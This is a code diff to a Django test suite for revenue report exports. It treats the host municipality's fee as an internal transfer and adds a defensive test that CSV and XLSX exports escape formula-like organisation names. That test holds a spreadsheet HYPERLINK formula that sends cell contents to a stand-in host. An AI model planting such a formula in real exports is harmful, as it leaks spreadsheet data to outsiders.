@@ -9,6 +9,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from hcs.invoices.models import Invoice
+from hcs.organisations.models import Organisation
 from hcs.invoices.services import invoice_credit, invoices_generate, payment_register
 from hcs.reports.exports import revenue_csv, revenue_xlsx
 from hcs.reports.queries import revenue
@@ -16,6 +17,7 @@ from hcs.reports.queries import revenue
 pytestmark = pytest.mark.django_db
 TODAY = timezone.localdate()
 REVENUE_2024 = Decimal(878050)
+HOST_FEE = Decimal(41000)  # Trollhättan, 59 073 inhabitants: an internal transfer
 
 
 def _revenue():
@@ -39,13 +41,14 @@ def test_a_new_member_in_2024_owes_half_the_region_fee(demo):
     assert _line(_revenue(), "25").fee == 58500 // 2  # Region Norrbotten joined during 2024
 
 
-def test_invoiced_revenue_is_the_same_and_all_outstanding(demo):
+def test_invoiced_revenue_is_the_same_and_all_outstanding_but_the_hosts(demo):
     invoices_generate(year=2024, actor="t")
     report = _revenue()
     assert report.is_invoiced
     assert report.invoiced_total == REVENUE_2024
-    assert report.outstanding_total == REVENUE_2024
-    assert report.paid_total == 0
+    # Trollhättan hosts the network: its fee is an internal transfer, settled when booked.
+    assert report.outstanding_total == REVENUE_2024 - HOST_FEE
+    assert report.paid_total == HOST_FEE
     assert report.total == REVENUE_2024
 
 
@@ -54,8 +57,8 @@ def test_a_payment_lowers_what_is_outstanding(demo):
     invoice = Invoice.objects.get(organisation__code="25", kind="invoice")
     payment_register(ocr=invoice.ocr, amount=Decimal(10000), paid_on=TODAY, actor="t")
     report = _revenue()
-    assert report.paid_total == 10000
-    assert report.outstanding_total == REVENUE_2024 - 10000
+    assert report.paid_total == HOST_FEE + 10000
+    assert report.outstanding_total == REVENUE_2024 - HOST_FEE - 10000
     assert report.invoiced_total == REVENUE_2024
     line = _line(report, "25")
     assert (line.paid, line.outstanding) == (10000, 29250 - 10000)
@@ -67,7 +70,7 @@ def test_a_credit_note_lowers_what_is_invoiced(demo):
     invoice_credit(invoice=invoice, amount=Decimal(5000), reason="Fel belopp", actor="t")
     report = _revenue()
     assert report.invoiced_total == REVENUE_2024 - 5000
-    assert report.outstanding_total == REVENUE_2024 - 5000
+    assert report.outstanding_total == REVENUE_2024 - HOST_FEE - 5000
     assert report.total == REVENUE_2024 - 5000
     assert report.fees_total == REVENUE_2024  # the rules did not change
     assert _line(report, "25").invoiced == 29250 - 5000
@@ -94,8 +97,8 @@ def test_the_csv_opens_in_swedish_excel_and_holds_the_figures(demo):
     assert [_from_swedish(cell) for cell in total[3:]] == [
         REVENUE_2024,
         REVENUE_2024,
-        0,
-        REVENUE_2024,
+        HOST_FEE,
+        REVENUE_2024 - HOST_FEE,
     ]
     assert sum(_from_swedish(row[4]) for row in members) == REVENUE_2024
     norrbotten = next(row for row in members if row[1] == "25")
@@ -113,3 +116,17 @@ def test_the_xlsx_holds_numbers_in_kronor(demo):
     assert "kr" in total[3].number_format
     members = [row for row in rows if row[1].value and row[1].value != rows[3][1].value]
     assert sum(row[3].value for row in members) == 878050
+
+
+FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'
+
+
+def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_and_xlsx(demo):
+    Organisation.objects.filter(code="1280").update(name=FORMULA)
+    report = _revenue()
+    rows = list(csv.reader(io.StringIO(revenue_csv(report).decode("utf-8-sig")), delimiter=";"))
+    [cell] = [row[0] for row in rows if row[1] == "1280"]
+    assert cell == "'" + FORMULA
+    sheet = load_workbook(io.BytesIO(revenue_xlsx(report))).active
+    [value] = [row[0].value for row in sheet.iter_rows() if row[1].value == "1280"]
+    assert value == "'" + FORMULA
